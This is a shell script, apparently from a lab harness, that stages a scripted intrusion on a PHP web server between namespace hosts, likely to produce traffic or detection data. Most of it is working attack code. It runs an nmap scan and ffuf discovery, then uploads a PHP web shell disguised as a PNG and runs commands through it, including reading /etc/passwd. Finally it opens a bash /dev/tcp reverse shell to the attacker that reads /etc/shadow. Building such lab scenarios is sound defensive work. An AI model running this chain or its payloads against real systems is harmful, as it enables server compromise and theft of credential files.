# sourced by run-scenario.sh: the story played between the hosts
# Intrusion on a web server that listens on 8080: TCP connect scan, ffuf content discovery,
# a PHP web shell uploaded as an "image" (.phtml, Content-Type image/png) that takes its
# commands from a POST body, then a bash /dev/tcp reverse shell to port 9001.
NET=10.77.3; ATT=66; VIC=20; CLI=31; DNS=53; SHELLPORT=9001; WEBPORT=8080
play() {
  note "attacker $A; victim $V (Apache+PHP on port $WEBPORT, SSH banner on 22); benign client $C; dns server $D"
  benign_background
  sleep 1
  note "1 port scan: nmap TCP connect scan (-sT) from $A to $V ports 1-10000; open: 22, 8080"
  nsx att nmap -sT -Pn -n -p 1-10000 -T4 $V >"$RUN/logs/nmap.log" 2>&1
  sleep 3
  note "2 content discovery: ffuf 1.1.0 (UA 'Fuzz Faster U Fool v1.1.0') with dirb small.txt and extensions .php,.txt against $URL/FUZZ"
  nsx att ffuf -s -u "$URL/FUZZ" -w /usr/share/dirb/wordlists/small.txt -e .php,.txt -t 8 -mc 200,204,301,302,307,401,403 \
      >"$RUN/logs/ffuf.log" 2>&1 || true
  sleep 2
  note "3 manual browsing with a Firefox UA: /editprofile.php /upload.php /uploads/"
  for p in /editprofile.php /upload.php /uploads/; do nsx att curl -s -A "$BROWSER" -o /dev/null $URL$p; sleep 0.7; done
  benign_background
  printf '<?php system($_POST['"'"'c'"'"']); ?>\n' > "$RUN/img.phtml"
  note "4 web shell upload: POST /upload.php multipart field fileToUpload, file img.phtml, Content-Type image/png, $(wc -c < "$RUN/img.phtml") bytes, sha256 $(sha256sum "$RUN/img.phtml" | cut -d' ' -f1): $(cat "$RUN/img.phtml")"
  nsx att curl -s -A "$BROWSER" -e "$URL/editprofile.php" -F "fileToUpload=@$RUN/img.phtml;type=image/png" -F submit=Upload $URL/upload.php -o /dev/null
  sleep 2
  note "5 web shell commands in the POST body (form field c) to /uploads/img.phtml: id, uname -a, cat /etc/passwd, ls -la /var/www/html"
  for c in 'id' 'uname -a' 'cat /etc/passwd' 'ls -la /var/www/html'; do
    nsx att curl -s -A "$BROWSER" --data-urlencode "c=$c" -o /dev/null $URL/uploads/img.phtml; sleep 1.5
  done
  note "6 reverse shell: c=bash -c 'bash -i >& /dev/tcp/$A/$SHELLPORT 0>&1' (POST, URL-encoded); victim $V connects to $A:$SHELLPORT; typed: whoami, uname -a, cat /etc/shadow, id, hostname, pwd, exit"
  shell_session $'whoami\nuname -a\ncat /etc/shadow\nid\nhostname\npwd\nexit' 1.5
  nsx att timeout 40 curl -s -A "$BROWSER" --data-urlencode "c=bash -c 'bash -i >& /dev/tcp/$A/$SHELLPORT 0>&1'" -o /dev/null $URL/uploads/img.phtml || true
  wait "$(cat "$RUN/shellsess.pid")" 2>/dev/null || true
  sleep 1
  benign_background
}
